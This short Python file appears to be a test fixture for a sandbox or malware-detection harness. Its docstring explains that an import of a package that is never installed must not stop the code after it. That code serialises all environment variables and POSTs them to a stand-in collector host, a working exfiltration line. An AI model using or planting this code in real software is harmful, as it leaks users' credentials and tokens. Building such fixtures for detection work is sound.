"""A build-time-only dependency imported at run time: the POST on the next lines must
still run (under a stand-in), the way `from discord import SyncWebhook` does."""
import json
import os
import urllib.request

from pkgsandbox_never_installed_zq import Client  # noqa: F401

Client("token").connect()
urllib.request.urlopen(urllib.request.Request(
    "https://hooks.collector.example/env", data=json.dumps(dict(os.environ)).encode(),
    method="POST"), timeout=5).read()
